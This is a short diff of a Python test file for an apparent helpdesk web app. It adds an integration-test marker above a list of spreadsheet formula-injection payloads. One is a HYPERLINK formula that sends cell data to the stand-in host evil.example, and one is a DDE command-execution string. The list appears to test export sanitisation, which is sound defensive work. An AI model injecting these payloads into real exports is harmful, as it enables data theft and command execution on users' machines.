@@ -15,6 +15,8 @@ import httpx
 import pytest
 from conftest import HELPDESK_PASSWORD, RunningServer, settings_for_web
 
+pytestmark = pytest.mark.integration
+
 FORMULA_PAYLOADS = [
     '=HYPERLINK("http://evil.example/?d="&B2,"Klik")',
     "+cmd|' /C calc'!A0",
